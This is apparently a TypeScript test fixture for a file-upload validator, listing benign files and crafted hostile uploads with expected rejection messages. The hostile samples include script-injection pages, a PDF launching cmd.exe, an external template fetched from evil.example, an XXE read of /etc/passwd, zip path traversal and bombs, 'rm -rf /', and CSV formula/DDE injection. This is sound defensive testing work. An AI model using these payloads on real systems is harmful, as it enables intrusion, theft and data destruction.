import { deflateSync } from 'node:zlib';
import {
  bytesOf,
  docx,
  docxParts,
  jpeg,
  noise,
  PNG_SIGNATURE,
  packedPdfObjects,
  pdf,
  pdfStream,
  png,
  pngChunk,
  webp,
  webpChunk,
  xlsx,
  xlsxParts,
  zip,
} from './files.ts';

type Bytes = Buffer<ArrayBuffer>;
const text = (words: string): Bytes => Buffer.from(words);

/** Files as vendors and show managers really have them: name, bytes. */
export const goodFiles: readonly (readonly [name: string, bytes: Bytes])[] = [
  ['vendor-form.pdf', pdf()],
  ['Form.PDF', pdf({ header: '%PDF-1.4\r\n' })],
  ['new.pdf', pdf({ header: '%PDF-2.0\n%\xe2\xe3\n', objects: [packedPdfObjects('<< /Type /Font >>')] })],
  [
    'linked.pdf',
    pdf({ objects: ['<< /S /URI /URI (https://example.org) >>', '<< /S /GoTo /D [3 0 R /Fit] >>'] }),
  ],
  [
    'noisy.pdf',
    pdf({ objects: [pdfStream(bytesOf('x/JS (', noise(5000), '/JS (1)'), '/Filter /FlateDecode')] }),
  ],
  ['padded.pdf', bytesOf(pdf(), '\r\n  \n')],
  ['opens-at-page-one.pdf', pdf({ catalog: '/OpenAction [3 0 R /Fit]' })],
  ['map.png', png()],
  ['map-with-notes.png', png({ extra: [pngChunk('tEXt', bytesOf('Title\0Hall map'))] })],
  ['booth.jpg', jpeg()],
  ['booth.JPEG', jpeg({ comment: 'taken at the gate' })],
  ['phone.jpg', bytesOf(jpeg({ width: 4000, height: 3000 }), '\0\0', jpeg())],
  ['logo.webp', webp()],
  ['logo-2.webp', webp([webpChunk('VP8X', Buffer.alloc(10)), webpChunk('VP8 ', noise(7))])],
  ['rules.docx', docx([{ name: 'word/media/image1.png', data: png(), method: 0 }])],
  ['empty.docx', docx([{ name: 'word/footnotes.xml', data: '' }])],
  ['prices.xlsx', xlsx()],
  [
    'vendors.csv',
    text('Company,Phone,Net\r\n"Müller, Söhne",+1 406 555 0100,-12.50\r\nJosé,(406) 555-0101,@home\r\n'),
  ],
  ['with mark.csv', text('\uFEFFName;Booth\nAnn;12\n')],
  ['notes.txt', text('Doors open at 8:00 AM – bring “José”.\n2 < 3 & 5 > 4\n')],
  ['läufer 日本.txt', text('ok')],
  ['Guide v1.2 (final).pdf', pdf()],
];

const ALLOWED = 'Allowed are PDF, PNG, JPEG, WebP, DOCX, XLSX, CSV and TXT files of up to 19 MB.';
const is = (message: string) => `${message} ${ALLOWED}`;
const unknownKind = is('This kind of file cannot be uploaded.');
const damaged = is('The file is damaged or cut off.');
const trailing = is('Something is hidden behind the end of the file.');
const activePdf = is(
  'The PDF holds scripts, attachments or other active parts. Print it to a new PDF and upload that one.',
);
const unreadablePdf = is(
  'The PDF is protected or written in a way that cannot be checked. Print it to a new PDF and upload that one.',
);
const macros = is('The file holds macros or embedded programs. Save it without them.');
const strange = is('The inside of the file is not what an Office program writes. Save it again with one.');
const bomb = is('The file grows far too large when it is opened.');
const markup = is('The text holds HTML or another program’s code.');
const control = is('The text holds characters that are no text.');
const notUtf8 = is('The text is not in UTF-8. Save the file as “UTF-8” (in Excel: “CSV UTF-8”).');
const formulas = is('A cell begins with “=”. Save the file with values instead of formulas.');
const pixels = is('The picture is too large to be shown: more than 100 megapixels.');
const wrong = (says: string, real: string) => is(`The name says ${says}, but the file is ${real}.`);

const html = text('<!DOCTYPE html><script>alert(1)</script>');
const svg = text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');
const exe = bytesOf('MZ\x90\0\x03\0\0\0', noise(200));
const gif = bytesOf('GIF89a', noise(40));
const zeros = Buffer.alloc(2_000_000);
const macroWord = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const linkTo = (type: string) =>
  `<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>`;
const pngHead = (width: number, height: number) => {
  const head = Buffer.alloc(13, 8);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  return head;
};

/** Files that must not get in: what they try, name, bytes, the message. */
export const hostileFiles: readonly (readonly [what: string, name: string, bytes: Bytes, message: string])[] =
  [
    ['a page named PDF', 'form.pdf', html, wrong('PDF', 'no PDF')],
    ['a drawing with a script named PDF', 'map.pdf', svg, wrong('PDF', 'no PDF')],
    ['a program named PDF', 'form.pdf', exe, wrong('PDF', 'no PDF')],
    ['a page that claims to be a PDF further down', 'form.pdf', bytesOf(html, pdf()), wrong('PDF', 'no PDF')],
    ['a picture named PDF', 'map.pdf', png(), wrong('PDF', 'a PNG')],
    ['a PDF named PNG', 'map.png', pdf(), wrong('PNG', 'a PDF')],
    ['an archive named PNG', 'map.png', docx(), wrong('PNG', 'a ZIP archive')],
    ['a page named PNG', 'map.png', html, wrong('PNG', 'no PNG')],
    ['a GIF named JPEG', 'map.jpg', gif, wrong('JPEG', 'no JPEG')],
    ['a PDF named text', 'notes.txt', pdf(), wrong('TXT', 'a PDF')],
    ['a web page', 'page.html', html, unknownKind],
    ['a drawing', 'map.svg', svg, unknownKind],
    ['a program', 'setup.exe', exe, unknownKind],
    ['a program behind a harmless ending', 'form.pdf.exe', pdf(), unknownKind],
    ['an ending that reads backwards', 'form\u202Efdp.exe', pdf(), unknownKind],
    ['no ending', 'form', pdf(), unknownKind],
    ['only an ending of no kind', '.htaccess', text('ok'), unknownKind],
    ['an ending with a hidden stream', 'form.pdf::$DATA', pdf(), unknownKind],
    ['a macro document by its name', 'rules.docm', docx(), unknownKind],
    ['nothing', 'form.pdf', Buffer.alloc(0), is('The file is empty.')],
    ['a PDF cut off', 'form.pdf', pdf().subarray(0, 300), damaged],
    ['a PDF without its beginning', 'form.pdf', bytesOf('%PDF-9.9\n', pdf()), damaged],
    [
      'a PDF whose table is elsewhere',
      'form.pdf',
      bytesOf(pdf().subarray(0, 9), 'moved', pdf().subarray(9)),
      damaged,
    ],
    ['an archive behind a PDF', 'form.pdf', bytesOf(pdf(), docx()), trailing],
    ['a page behind a PDF', 'form.pdf', bytesOf(pdf(), html), trailing],
    [
      'a PDF with a script',
      'form.pdf',
      pdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }),
      activePdf,
    ],
    [
      'a script under a written-out name',
      'form.pdf',
      pdf({ objects: ['<< /S /J#61vaScr#69pt /J#53 (1) >>'] }),
      activePdf,
    ],
    ['a PDF with only a short script name', 'form.pdf', pdf({ objects: ['<< /JS 7 0 R >>'] }), activePdf],
    ['a PDF that starts a program', 'form.pdf', pdf({ objects: ['<</S/Launch/F(cmd.exe)>>'] }), activePdf],
    [
      'a PDF with an attachment',
      'form.pdf',
      pdf({ objects: [pdfStream(exe, '/Type /EmbeddedFile')] }),
      activePdf,
    ],
    ['a PDF with a script form', 'form.pdf', pdf({ catalog: '/AcroForm << /XFA 9 0 R >>' }), activePdf],
    [
      'a script in packed objects',
      'form.pdf',
      pdf({ objects: [packedPdfObjects('<< /S /JavaScript /JS (1) >>')] }),
      activePdf,
    ],
    [
      'a script in a stream that is none',
      'form.pdf',
      pdf({ objects: [pdfStream(text('<< /S /JavaScript >>'), '/Filter /FlateDecode')] }),
      activePdf,
    ],
    [
      'packed objects in a rare packing',
      'form.pdf',
      pdf({ objects: [packedPdfObjects('<< >>', '/Filter [/ASCIIHexDecode /FlateDecode]')] }),
      unreadablePdf,
    ],
    [
      'packed objects that are scrambled',
      'form.pdf',
      pdf({ objects: [packedPdfObjects('<< >>', '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>')] }),
      unreadablePdf,
    ],
    [
      'packed objects that are locked',
      'form.pdf',
      pdf({ objects: [pdfStream(noise(64), '/Type /ObjStm /Filter /FlateDecode')] }),
      unreadablePdf,
    ],
    [
      'packed objects that grow without end',
      'form.pdf',
      pdf({
        objects: [pdfStream(deflateSync(Buffer.alloc(110_000_000)), '/Type /ObjStm /Filter /FlateDecode')],
      }),
      unreadablePdf,
    ],
    ['a PNG cut off', 'map.png', png().subarray(0, 60), damaged],
    [
      'a PNG without a picture',
      'map.png',
      bytesOf(PNG_SIGNATURE, pngChunk('IHDR', pngHead(1, 1)), pngChunk('IEND')),
      damaged,
    ],
    ['a page behind a PNG', 'map.png', bytesOf(png(), html), trailing],
    ['a PNG that fills the memory', 'map.png', png({ width: 60_000, height: 60_000 }), pixels],
    ['a JPEG cut off', 'map.jpg', jpeg().subarray(0, 120), damaged],
    ['a JPEG without a picture', 'map.jpg', bytesOf('\xff\xd8\xff\xd9'), damaged],
    ['an archive behind a JPEG', 'map.jpg', bytesOf(jpeg(), docx()), trailing],
    ['a JPEG that fills the memory', 'map.jpg', jpeg({ width: 65_000, height: 65_000 }), pixels],
    ['a WebP cut off', 'logo.webp', webp().subarray(0, 20), damaged],
    ['a page behind a WebP', 'logo.webp', bytesOf(webp(), html), trailing],
    ['a WebP without a picture', 'logo.webp', webp([webpChunk('EXIF', noise(8))]), damaged],
    ['any archive named Word', 'rules.docx', zip([{ name: 'a.txt', data: 'a' }]), strange],
    ['Excel named Word', 'rules.docx', xlsx(), strange],
    ['Word with macros', 'rules.docx', docx([{ name: 'word/vbaProject.bin', data: exe }]), macros],
    ['Word that calls itself macro-free', 'rules.docx', zip(docxParts('Hello', macroWord)), macros],
    ['Word of another type', 'rules.docx', zip(docxParts('Hello', 'text/html')), strange],
    [
      'Word with a program inside',
      'rules.docx',
      docx([{ name: 'word/embeddings/oleObject1.bin', data: exe }]),
      macros,
    ],
    ['Word with a page inside', 'rules.docx', docx([{ name: 'word/afchunk.html', data: html }]), macros],
    [
      'Word that loads a foreign template',
      'rules.docx',
      docx([{ name: 'word/_rels/settings.xml.rels', data: linkTo('attachedTemplate') }]),
      macros,
    ],
    [
      'Word that reads files of its reader',
      'rules.docx',
      docx([
        { name: 'word/x.xml', data: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' },
      ]),
      strange,
    ],
    [
      'Excel with old macro sheets',
      'prices.xlsx',
      xlsx([{ name: 'xl/macrosheets/sheet1.xml', data: '<x/>' }]),
      macros,
    ],
    [
      'an archive that climbs out of its folder',
      'rules.docx',
      docx([{ name: '../../etc/cron.d/job', data: 'x' }]),
      strange,
    ],
    ['an archive with an absolute path', 'rules.docx', docx([{ name: '/etc/passwd', data: 'x' }]), strange],
    [
      'an archive with two files of one name',
      'rules.docx',
      docx([{ name: 'WORD/document.xml', data: '<x/>' }]),
      strange,
    ],
    [
      'an archive that says other names inside',
      'rules.docx',
      docx([{ name: 'a.xml', directoryName: 'b.xml', data: '<x/>' }]),
      damaged,
    ],
    ['a locked archive', 'rules.docx', docx([{ name: 'a.xml', data: '<x/>', flags: 1 }]), strange],
    ['an archive behind a page', 'rules.docx', bytesOf(html, docx()), wrong('DOCX', 'no DOCX')],
    [
      'an archive with a page as its comment',
      'rules.docx',
      zip(docxParts(), { tail: html.toString() }),
      damaged,
    ],
    ['an archive cut off', 'rules.docx', docx().subarray(0, 400), damaged],
    [
      'an archive that unpacks to 1000 times its size',
      'prices.xlsx',
      xlsx([{ name: 'xl/a.xml', data: zeros }]),
      bomb,
    ],
    [
      'an archive that hides how large it unpacks',
      'prices.xlsx',
      xlsx([{ name: 'xl/a.xml', data: zeros, size: 10 }]),
      damaged,
    ],
    [
      'an archive with a changed file',
      'prices.xlsx',
      zip([...xlsxParts(), { name: 'xl/a.xml', data: '<x/>', crc: 1 }]),
      damaged,
    ],
    ['a page named text', 'notes.txt', html, markup],
    ['a drawing named table', 'table.csv', svg, markup],
    ['a script named text', 'notes.txt', text('#!/bin/sh\nrm -rf /\n'), markup],
    ['a page below harmless lines', 'notes.txt', text(`hello\n\n<ScRiPt>alert(1)</sCrIpT>`), markup],
    ['a program named text', 'notes.txt', Buffer.from('MZ\0\0\u0003'), control],
    ['terminal commands in a text', 'notes.txt', text('\u001b]0;evil\u0007'), control],
    ['a text in an old encoding', 'notes.txt', Buffer.from('José', 'latin1'), notUtf8],
    ['a text in UTF-16', 'notes.txt', Buffer.from('\uFEFFJosé', 'utf16le'), notUtf8],
    ['a table that computes', 'table.csv', text('a,b\n1,"=HYPERLINK(""https://evil.example"")"\n'), formulas],
    ['a table that starts a program', 'table.csv', text("a;+cmd|' /C calc'!A0\n"), formulas],
  ];
